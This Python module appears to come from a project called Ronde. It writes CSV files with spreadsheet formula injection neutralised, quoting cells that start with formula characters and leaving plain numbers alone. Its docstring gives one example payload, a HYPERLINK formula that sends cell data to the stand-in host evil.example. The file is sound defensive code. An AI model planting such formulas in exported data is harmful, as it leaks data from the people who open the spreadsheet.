"""CSV written for spreadsheets, with formula injection neutralised (issue 22).

Excel, LibreOffice and Google Sheets run a cell that starts with `=`, `+`, `-` or `@` as a
formula (tab and carriage return are stripped first by some of them): a report description
`=HYPERLINK("http://evil.example/?d="&A1, …)` sent by a citizen would run on a manager's
computer when they open the export. OWASP's fix: such a cell gets a leading `'`, which the
spreadsheet shows as text. A cell that is only a number (`-3.5`, `+2`, `-1e3`) stays as it is:
spreadsheets read it as a number, never as a formula, and negative figures must stay numeric.

Every CSV Ronde writes for people goes through `csv_writer` (geo exports, dashboard tables).
"""

import csv
import re
from collections.abc import Iterable
from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# A plain decimal number, as a spreadsheet would read it (dot or comma, optional exponent).
PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:[.,]\d*)?|[.,]\d+)(?:[eE][+-]?\d+)?")


def csv_cell(value: Any) -> Any:
    """The value, or for a text that a spreadsheet would run as a formula, that text quoted."""
    if isinstance(value, str) and value.startswith(FORMULA_START) and not PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


class SafeCsvWriter:
    """csv.writer's writerow/writerows with every cell passed through `csv_cell`."""

    def __init__(self, stream: Any, **options: Any) -> None:
        self._writer = csv.writer(stream, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([csv_cell(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(stream: Any, **options: Any) -> SafeCsvWriter:
    return SafeCsvWriter(stream, **options)
